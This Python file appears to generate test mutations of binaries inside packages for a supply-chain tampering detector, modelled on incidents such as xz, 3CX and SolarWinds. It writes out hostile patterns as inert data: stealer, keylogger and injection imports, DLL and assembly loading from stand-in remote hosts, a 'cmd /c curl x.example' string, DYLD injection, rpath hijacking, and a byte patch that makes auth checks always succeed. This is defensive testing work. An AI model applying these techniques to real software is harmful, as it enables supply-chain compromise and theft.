"""Eighth set: programs and libraries within packages, changed by bytes or by patchelf and objcopy; inert, never code that runs.

The comment before each family says which incident it is after. What stands for code is filler; hosts are below `.example`.
"""

from __future__ import annotations

import json
import re
import struct

from genuine import Files

from mutation_families.edited_programs import flagged
from mutation_families.fifth_programs import borrowed_signature, section
from mutation_families.fourth_programs import (
    another_name,
    answers_first,
    export_elsewhere,
    first_jump,
    guard_gone,
    one_function_more,
    order_placed,
    rights,
    taken_for_functions,
    written_code,
)
from mutation_families.fourth_texts import chance
from mutation_families.program_changes import READ, with_imports
from mutation_families.seventh_programs import (
    MACHOS,
    VERSION,
    after,
    asking,
    behind,
    by_tool,
    elf,
    halves,
    its_text,
    largest,
    macho,
    pe,
    same,
)
from mutation_families.seventh_ways import Changes, Way, together, ways
from mutation_families.sixth_programs import (
    KNOWN,
    export_into_slack,
    host_in_padding,
    in_one_slice,
    jump_into_slack,
)
from mutation_families.third_programs import (
    command_added,
    dynamic,
    elf_guards_off,
    guards_off,
    library_renamed,
    macho_other_function,
    managed_name,
    put,
    segments,
)
from onionskin.lookalike.archives import build_zip
from onionskin.lookalike.elf import ElfRecipe, build_elf
from onionskin.lookalike.managed import ManagedRecipe, build_assembly
from onionskin.lookalike.pe import Recipe, build_pe, with_checksum

Asks = dict[str, tuple[str, ...]]
STEALS: Asks = {"CRYPT32.dll": ("CryptUnprotectData",), "ADVAPI32.dll": ("OpenProcessToken", "AdjustTokenPrivileges")}  # fmt: skip
HEARS: Asks = {"USER32.dll": ("SetWindowsHookExA", "GetAsyncKeyState", "GetClipboardData")}
ENTERS: Asks = {"KERNEL32.dll": ("OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread")}  # fmt: skip


def ends_at_once(data: bytes) -> bytes:
    """Return a library of whose functions one, which checks or verifies by its name, says yes at once (x86-64)."""
    for name, address, size in functions(data):
        if re.search(rb"verif|check|valid|auth|acct|match", name) and size > 16:
            row = next((each for each in segments(data) if each[0] == 1 and each[3] <= address < each[3] + each[5]), None)  # fmt: skip
            if row:
                return put(data, address - row[3] + row[2], b"\x31\xc0\xff\xc0\xc3".ljust(8, b"\xcc"))  # fmt: skip
    return b""


def functions(data: bytes) -> list[tuple[bytes, int, int]]:
    """Return name, address and length of the functions that a library offers."""
    table = {tag: where for tag, where, _ in dynamic(data)}
    symbols, texts = table.get(6, 0), table.get(5, 0)
    if not symbols or texts <= symbols:
        return []
    found = []
    for at in range(symbols, texts - 23, 24):
        name, info, _, part, address, size = struct.unpack_from("<IBBHQQ", data, at)
        if info & 15 == 2 and part:
            end = data.index(b"\0", texts + name)
            found.append((data[texts + name : end], address, size))
    return found


def driver(files: Files) -> Files:
    """Return a package whose driver is another one."""
    name = next((each for each in sorted(files) if each.endswith(".sys")), "")
    other = build_pe(Recipe(name="rtcore.sys", imports={"ntoskrnl.exe": ("MmMapIoSpace", "ZwMapViewOfSection", "IoCreateDevice")}))  # fmt: skip
    return {name: other} if name else {}


def stub(name: str) -> Files:
    """Return a library of that name which asks for memory and threads."""
    return {name: build_pe(Recipe(is_dll=True, name=name, imports={"KERNEL32.dll": ("VirtualProtect", "CreateThread", "GetModuleFileNameW")}))}  # fmt: skip


def settings_beside(files: Files) -> Files:
    """Return a package in which settings beside a library say where others are loaded from."""
    name = next((each for each in sorted(files) if each.endswith((".dll", ".pyd", ".exe"))), "")
    body = b'<assembly xmlns="urn:schemas-microsoft-com:asm.v1" manifestVersion="1.0"><dependency><dependentAssembly><assemblyIdentity name="Common.Helpers" version="1.0.0.0" type="win32"/></dependentAssembly></dependency><file name="Common.Helpers.dll" loadFrom="\\\\203.0.113.5\\share\\h.dll"/></assembly>\n'  # fmt: skip
    return {f"{name}.2.manifest": body} | stub(f"{name.rpartition('/')[0]}/Common.Helpers.dll") if name else {}  # fmt: skip


PE: tuple[Way, ...] = (
    # CCleaner's and rebuilt libraries' kind: what is called from outside leads elsewhere.
    *ways("PE: what it offers begins elsewhere", ("in a part of its own", pe(export_elsewhere)), ("behind the code", pe(lambda data: export_into_slack(data) or jump_into_slack(data))), ("its first instruction", pe(first_jump))),
    # Quiet: nothing more is in it, and less holds.
    *ways("PE: its guards are off", ("memory", pe(lambda data: guards_off(data, 0x4160))), ("of what is called", pe(guard_gone)), ("code that is written", pe(lambda data: with_checksum(flagged(data)) if flagged(data) else b""))),
    # Stealers and implants in the place of a library.
    *ways("PE: it asks for what stealers ask for", ("what is sealed", pe(lambda data: with_imports(data, STEALS))), ("what is typed", pe(lambda data: with_imports(data, HEARS))), ("memory of others", pe(lambda data: with_imports(data, ENTERS)))),
    *ways("PE: it says that it is another's", ("a company", pe(another_name)), ("a signature", pe(borrowed_signature))),
    *ways("PE: bytes that it did not have", ("a host in the padding", pe(host_in_padding)), ("a part that is only read", pe(lambda data: section(data, b".rdata$z", chance(120_000), READ)))),
    # Side by side: what is beside it is loaded in its place.
    *ways("PE: a library beside it is another's", ("of a like name", pe(library_renamed, stub("vcruntime14l.dll"))), ("by settings", settings_beside), ("a driver", driver)),
)  # fmt: skip


def another_whole(files: Files) -> Files:
    """Return a package whose largest library is another whole, of the same name and about the same length."""
    names = [name for name, data in files.items() if data[:5] == b"\x7fELF\x02"]
    name = max(names, key=lambda each: (len(files[each]), each), default="")
    first = name.rpartition("/")[2].partition(".")[0]
    body = build_elf(ElfRecipe(exports=(f"PyInit_{first}",), imports=("PyImport_ImportModule", "mprotect", "dlopen", "connect"), text=chance(max(4096, len(files.get(name, b"")) // 2))))  # fmt: skip
    return {name: body} if name else {}


ELF: tuple[Way, ...] = (
    *ways("ELF: its guards are off", ("code that is written", elf(lambda data: rights(data, is_code=True))), ("a stack that is run", elf(lambda data: elf_guards_off(data, 0x6474_E551))), ("data that is run", elf(lambda data: rights(data, is_code=False)))),
    *ways("ELF: another library in its place", ("audit", elf(lambda data: answers_first(data, 0x6FFF_FEFC))), ("in place of one", elf(by_tool("patchelf", "--replace-needed", "libpthread.so.0", "libpthreads.so.0", "--replace-needed", "libgcc_s.so.1", "libgcc_s.so.2", "--replace-needed", "libstdc++.so.6", "libstdc++.so.6.0", "FILE")))),
    *ways("ELF: it looks for libraries where others may write", ("the folder it is run in", elf(by_tool("patchelf", "--set-rpath", "$ORIGIN:.:/proc/self/cwd", "FILE")))),
    *ways("ELF: a first function more", ("of what stands behind", elf(one_function_more))),
    # xz's kind, and rootkits': functions of the system in the place of others.
    *ways("ELF: it asks for other functions", ("memory and tracing", elf(asking(b"ptrace"))), ("a file in memory", elf(asking(b"memfd_create"))), ("names and libraries", elf(lambda data: asking(b"dlsym")(asking(b"getenv")(data)) if asking(b"getenv")(data) else b"")), ("rights", elf(asking(b"setuid")))),
    *ways("ELF: bytes that it did not have", ("a note by objcopy", elf(by_tool("objcopy", "--add-section", ".note.gnu.prop=PART", "FILE", section=chance(48_000)))), ("an archive behind it", elf(behind(build_zip({"p/run.sh": b": inert\n" * 40}))))),
    # PyPI's and npm's exchanged extensions: the same name, another library.
    *ways("ELF: another library in its place", ("whole", another_whole)),
)  # fmt: skip

MACHO: tuple[Way, ...] = (
    # 3CX, 2023; XcodeGhost's heirs: commands of the loader.
    *ways("Mach-O: the loader is told more", ("settings", macho(lambda data: command_added(data, 0x27, b"", "DYLD_INSERT_LIBRARIES=/Users/Shared/.a.dylib"))), ("handed on", macho(lambda data: command_added(data, 0x8000_001F, VERSION, "@loader_path/.libs/libcore.dylib")))),
    *ways("Mach-O: its guards are off", ("code that is written", macho(written_code)), ("data for functions", macho(taken_for_functions))),
    *ways("Mach-O: it asks for other functions", ("in one half alone", largest((b"\xca\xfe\xba\xbe",), lambda data: in_one_slice(data, 1, lambda part: macho_other_function(part, b"_execv")))), ("an order in one half", largest((b"\xca\xfe\xba\xbe",), lambda data: in_one_slice(data, 0, order_placed)))),
    *ways("Mach-O: it asks for other functions", ("in all of it", largest(MACHOS, halves(lambda data: macho_other_function(data, b"_posix_spawn"))))),
)  # fmt: skip

LOADS = build_assembly(ManagedRecipe(name="Common.Helpers", calls={"System.Net.WebClient": ("DownloadData",), "System.Reflection.Assembly": ("Load",), "System.AppDomain": ("get_CurrentDomain",)}, user_strings=("https://nuget-stat.example/h",), bodies=(b"\x2a",), initializes=True))  # fmt: skip
HOOK = {"Startup/StartupHook.dll": LOADS, "app.runtimeconfig.json": json.dumps({"runtimeOptions": {"configProperties": {"STARTUP_HOOKS": "Startup/StartupHook.dll", "System.Runtime.Serialization.EnableUnsafeBinaryFormatterSerialization": True}}}, indent=2).encode()}  # fmt: skip


def managed(edit: Changes) -> Changes:
    """Return a change of the largest .NET library alone, whatever else lies beside it."""

    def change(files: Files) -> Files:
        held = {name: data for name, data in files.items() if data[:2] == b"MZ" and b"BSJB" in data}
        return edit(held) if held else {}

    return change


def calling(wanted: bytes) -> Changes:
    """Return a change of a member that an assembly asks for."""
    return managed(pe(lambda data: with_checksum(managed_name(data, KNOWN, wanted)) if managed_name(data, KNOWN, wanted) else b""))  # fmt: skip


def rewritten(files: Files) -> Files:
    """Return a package one of whose assemblies was made anew, of the same name, and does more."""
    name = min(files, key=lambda each: (len(files[each]), each))
    calls = {"System.Net.ServicePointManager": ("set_ServerCertificateValidationCallback",), "System.Net.Http.HttpClient": ("GetByteArrayAsync",), "System.Reflection.Assembly": ("Load",)}  # fmt: skip
    return {name: build_assembly(ManagedRecipe(name=name.rpartition("/")[2].rpartition(".")[0], calls=calls, natives={"kernel32": ("VirtualAlloc", "CreateThread")}, resources={"data": chance(len(files[name]) // 2)}))}  # fmt: skip


MANAGED: tuple[Way, ...] = (
    # SolarWinds, 2020, and libraries of 2025 and 2026 that were made anew.
    *ways(".NET: it asks for another member, or says another text", ("which decodes", calling(b"FromBase64String")), ("an order", managed(pe(its_text("cmd /c curl x.example"))))),
    *ways(".NET: it is another's", ("a company", managed(pe(another_name))), ("made anew", managed(rewritten))),
    # AppDomainManager and startup hooks: settings beside decide what is loaded first.
    *ways(".NET: settings beside load another's", ("a hook of the start", together(managed(pe(same, HOOK)))), ("an address of code", managed(pe(same, {"app.exe.config": b'<configuration><runtime><assemblyBinding xmlns="urn:schemas-microsoft-com:asm.v1"><dependentAssembly><assemblyIdentity name="Common.Helpers"/><codeBase version="1.0.0.0" href="http://198.51.100.12/Common.Helpers.dll"/></dependentAssembly></assemblyBinding><loadFromRemoteSources enabled="true"/></runtime></configuration>', "Common.Helpers.dll": LOADS})))),
    *ways(".NET: bytes that it did not have", ("behind its end, and who loads it", managed(pe(after(lambda data: with_checksum(managed_name(data, KNOWN, b"Load") or data), behind(chance(30_000))))))),
)  # fmt: skip
